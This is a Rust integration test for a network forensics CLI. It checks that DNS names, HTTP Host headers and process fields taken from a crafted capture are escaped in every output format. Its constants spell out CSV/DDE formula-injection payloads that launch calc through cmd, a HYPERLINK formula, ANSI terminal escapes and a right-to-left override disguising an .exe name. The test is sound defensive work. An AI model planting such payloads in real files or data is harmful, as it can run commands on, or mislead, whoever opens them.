//! Hostile strings (testdata/hostile/hostile-strings.pcap, written byte by byte by
//! testdata/hostile/make-hostile.py): DNS names and HTTP Hosts carrying spreadsheet formulas,
//! ANSI escapes, a newline, invalid UTF-8 and a bidi override. Every output format must be
//! safe for its sink and JSON must keep the faithful value. Expected names were read with
//! `tshark -r hostile-strings.pcap -T fields -e dns.qry.name -e http.host` and the DNS
//! escaping rule of DESIGN.md 4.3 (Zeek's: lowercase, `\xNN` for bytes that are not
//! printable ASCII or are the label separator).
#![allow(clippy::unwrap_used, clippy::expect_used)] // a test binary: failing loudly is the point

use serde_json::Value;
use std::path::PathBuf;
use std::process::Command;

fn hostile_capture() -> String {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../testdata/hostile/hostile-strings.pcap")
        .to_string_lossy()
        .into_owned()
}

fn hostile_snapshot() -> String {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../testdata/hostile/hostile-snapshot.jsonl")
        .to_string_lossy()
        .into_owned()
}

/// stdout of a successful run.
fn run(args: &[&str]) -> Vec<u8> {
    let out = Command::new(env!("CARGO_BIN_EXE_netforensic"))
        .args(args)
        .arg(hostile_capture())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{args:?}: {:?}", out.stderr);
    out.stdout
}

/// stdout of a successful run with the hostile snapshot attributing the HTTP flows.
fn run_attributed(args: &[&str]) -> Vec<u8> {
    let out = Command::new(env!("CARGO_BIN_EXE_netforensic"))
        .args(args)
        .arg(hostile_capture())
        .arg("--sockets")
        .arg(hostile_snapshot())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{args:?}: {:?}", out.stderr);
    out.stdout
}

/// The HTTP Host of the request to 192.0.2.(10+i), as tshark's http.host shows it. The
/// newline ends the header line; invalid UTF-8 bytes are shown as `\xNN`, as in dns.log.
const HTTP_HOSTS: [Option<&str>; 8] = [
    Some("=HYPERLINK(\"http://x.test/?\"&A1,\"click\")"),
    Some("+cmd|' /C calc'!A0"),
    Some("@SUM(1+1)*cmd|' /C calc'!A0"),
    Some("-2+3+cmd"),
    Some("\x1b[31mred\x1b]0;title\x07"),
    Some("new"),
    Some("bad\\xff\\xfeutf8"),
    Some("\u{202e}gpj.exe"),
];

/// The snapshot's process (testdata/hostile/make-hostile.py, PROCESS).
const PROCESS_NAME: &str = "\x1b]0;pwned\x07evil\u{202e}gpj.exe";
const PROCESS_EXE: &str = "=cmd|' /C calc'!A0";
const PROCESS_CMDLINE: &str = "@SUM(1+1)\nsecond line\ttab";

/// The DNS query names, escaped as dns.log does.
const DNS_QUERIES: [&str; 8] = [
    "=hyperlink(\"http://x\\x2etest/?\"&a1,\"click\").example",
    "+cmd|'\\x20/c\\x20calc'!a0.example",
    "@sum(1+1)*cmd|'\\x20/c\\x20calc'!a0.example",
    "-2+3+cmd.example",
    "\\x1b[31mred\\x1b]0;title\\x07.example",
    "new\\x0aline.example",
    "bad\\xff\\xfeutf8.example",
    "\\xe2\\x80\\xaegpj\\x2eexe.example",
];

/// No byte a terminal would act on: C0 controls other than newline, DEL, C1 controls and
/// bidi overrides/isolates.
fn assert_terminal_safe(what: &str, bytes: &[u8]) {
    let text = std::str::from_utf8(bytes).unwrap_or_else(|e| panic!("{what}: not UTF-8: {e}"));
    for (i, c) in text.char_indices() {
        let bad = (c.is_control() && c != '\n')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        assert!(!bad, "{what}: raw {c:?} at byte {i}");
    }
}

#[test]
fn tables_carry_no_raw_control_bytes() {
    for command in ["flows", "dns", "analyze"] {
        let out = run(&[command]);
        assert_terminal_safe(command, &out);
        let text = String::from_utf8(out).unwrap();
        // Shown, escaped, not dropped.
        assert!(text.contains("\\x1b[31mred"), "{command}:\n{text}");
    }
}

#[test]
fn csv_has_no_formula_cells() {
    for command in ["flows", "dns"] {
        let out = run(&[command, "--format", "csv"]);
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(true)
            .from_reader(out.as_slice());
        let mut rows = 0;
        let mut neutralised = 0;
        for record in reader.records() {
            let record = record.unwrap();
            rows += 1;
            for cell in &record {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{command}: formula cell {cell:?}"
                );
                if cell.starts_with("'=") || cell.starts_with("'@") {
                    neutralised += 1;
                }
            }
        }
        assert!(rows >= 8, "{command}: {rows} rows");
        assert!(neutralised >= 2, "{command}: hostile cells missing");
    }
}

#[test]
fn flows_json_round_trips_the_faithful_host() {
    let flows: Vec<Value> = serde_json::from_slice(&run(&["flows", "--format", "json"])).unwrap();
    for (i, expected) in HTTP_HOSTS.iter().enumerate() {
        let server = format!("192.0.2.{}", 10 + i);
        let flow = flows
            .iter()
            .find(|f| f["id.resp_h"] == server.as_str() && f["proto"] == "tcp")
            .unwrap_or_else(|| panic!("no HTTP flow to {server}"));
        let names: Vec<&str> = flow["names"]
            .as_array()
            .unwrap()
            .iter()
            .map(|n| n.as_str().unwrap())
            .collect();
        assert!(names.contains(&DNS_QUERIES[i]), "{server}: {names:?}");
        match expected {
            Some(host) => {
                assert_eq!(flow["server_name"], *host, "{server}");
                assert_eq!(flow["name_source"], "http_host", "{server}");
            }
            None => assert_eq!(flow["server_name"], DNS_QUERIES[i], "{server}"),
        }
        // Serialising the parsed value again gives the same value back.
        let again: Value = serde_json::from_str(&flow.to_string()).unwrap();
        assert_eq!(&again, flow);
    }
}

#[test]
fn dns_json_and_jsonl_keep_the_escaped_names() {
    let records: Vec<Value> = serde_json::from_slice(&run(&["dns", "--format", "json"])).unwrap();
    let queries: Vec<&str> = records
        .iter()
        .map(|r| r["query"].as_str().unwrap())
        .collect();
    assert_eq!(queries, DNS_QUERIES);
    let jsonl = String::from_utf8(run(&["dns", "--format", "jsonl"])).unwrap();
    let lines: Vec<Value> = jsonl
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines, records);
}

#[test]
fn zeek_tsv_escapes_separators_and_controls() {
    for command in ["flows", "dns"] {
        let out = run(&[command, "--format", "zeek"]);
        assert_terminal_safe(
            command,
            &out.iter()
                .map(|&b| if b == b'\t' { b' ' } else { b })
                .collect::<Vec<_>>(),
        );
        let text = String::from_utf8(out).unwrap();
        let fields = text
            .lines()
            .find_map(|l| l.strip_prefix("#fields\t"))
            .unwrap()
            .split('\t')
            .count();
        let mut rows = 0;
        for line in text.lines().filter(|l| !l.starts_with('#')) {
            assert_eq!(line.split('\t').count(), fields, "{command}: {line:?}");
            rows += 1;
        }
        assert!(rows >= 8, "{command}: {rows} rows");
    }
}

#[test]
fn analyze_json_and_html_are_safe() {
    let report: Value = serde_json::from_slice(&run(&["analyze", "--format", "json"])).unwrap();
    let text = report.to_string();
    assert!(
        text.contains("=HYPERLINK"),
        "hostile name missing from the report"
    );

    let html = String::from_utf8(run(&["analyze", "--format", "html"])).unwrap();
    assert_terminal_safe("html", html.as_bytes());
    assert!(
        !html.contains("\"click\""),
        "raw quotes from the wire in HTML"
    );
    assert!(
        html.contains("=HYPERLINK(&quot;http://x.test/?&quot;&amp;A1"),
        "{html}"
    );
}

#[test]
fn hostile_process_strings_are_safe_in_every_format() {
    for args in [vec!["flows"], vec!["analyze"]] {
        let out = run_attributed(&args);
        assert_terminal_safe(&format!("{args:?}"), &out);
        let text = String::from_utf8(out).unwrap();
        assert!(text.contains("\\x1b]0;pwned\\x07evil"), "{args:?}:\n{text}");
    }
    let csv_out = run_attributed(&["flows", "--format", "csv"]);
    let mut reader = csv::Reader::from_reader(csv_out.as_slice());
    let mut exe_cells = 0;
    for record in reader.records() {
        for cell in &record.unwrap() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?}"
            );
            exe_cells += usize::from(cell == format!("'{PROCESS_EXE}"));
        }
    }
    assert!(exe_cells >= 1, "the exe cell is missing from the CSV");

    let flows: Vec<Value> =
        serde_json::from_slice(&run_attributed(&["flows", "--format", "json"])).unwrap();
    let attributed: Vec<&Value> = flows.iter().filter(|f| f["process"].is_object()).collect();
    assert!(!attributed.is_empty(), "no flow attributed");
    for flow in attributed {
        let process = &flow["process"];
        assert_eq!(process["pid"], 31337);
        assert_eq!(process["name"], PROCESS_NAME);
        assert_eq!(process["exe"], PROCESS_EXE);
        assert_eq!(process["cmdline"], PROCESS_CMDLINE);
        assert_eq!(process["user"], "+user");
    }

    let zeek = run_attributed(&["flows", "--format", "zeek"]);
    let zeek: Vec<u8> = zeek
        .iter()
        .map(|&b| if b == b'\t' { b' ' } else { b })
        .collect();
    assert_terminal_safe("zeek", &zeek);

    let html = String::from_utf8(run_attributed(&["analyze", "--format", "html"])).unwrap();
    assert_terminal_safe("html", html.as_bytes());
    assert!(
        !html.contains("'!A0"),
        "raw apostrophe from the snapshot in HTML"
    );
    let report: Value =
        serde_json::from_slice(&run_attributed(&["analyze", "--format", "json"])).unwrap();
    let processes = report["processes"].as_array().unwrap();
    assert!(
        processes.iter().any(|p| p["name"] == PROCESS_NAME),
        "{report}"
    );
}
